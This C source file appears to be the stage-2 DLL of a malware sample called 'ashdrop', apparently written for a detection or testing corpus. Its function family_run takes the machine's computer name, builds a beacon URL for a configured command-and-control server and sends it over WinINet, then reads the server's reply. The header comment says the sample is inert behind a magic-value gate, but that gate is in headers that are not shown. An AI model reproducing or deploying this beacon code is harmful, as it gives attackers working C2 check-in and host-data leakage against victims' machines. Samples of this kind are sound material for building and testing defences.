/* ashdrop stage 2 - the DLL carried in the dropper's ADRPAYLOAD resource: a WinINet beacon.
 * Inert: its export Start returns unless given SPOOR_MAGIC, and the beacon is behind spoor_never. */
#include <windows.h>
#include <wininet.h>
#include "config.h"
#include "../../common/inert.h"

static int family_run(void)
{
    char host[64], url[512];
    DWORD size = sizeof host, got = 0;
    char buf[512];
    HINTERNET net, req;

    GetComputerNameA(host, &size);
    wsprintfA(url, "%s?" CFG_BEACON_FMT, CFG_C2_URL, CFG_VARIANT, host, GetTickCount());
    net = InternetOpenA(CFG_USER_AGENT, INTERNET_OPEN_TYPE_PRECONFIG, NULL, NULL, 0);
    if (net == NULL)
        return 1;
    req = InternetOpenUrlA(net, url, NULL, 0, INTERNET_FLAG_RELOAD | INTERNET_FLAG_NO_CACHE_WRITE, 0);
    if (req != NULL) {
        InternetReadFile(req, buf, sizeof buf, &got);
        InternetCloseHandle(req);
    }
    InternetCloseHandle(net);
    return 0;
}

#define CFG_KIND_DLL 1
#include "../../common/winentry.h"
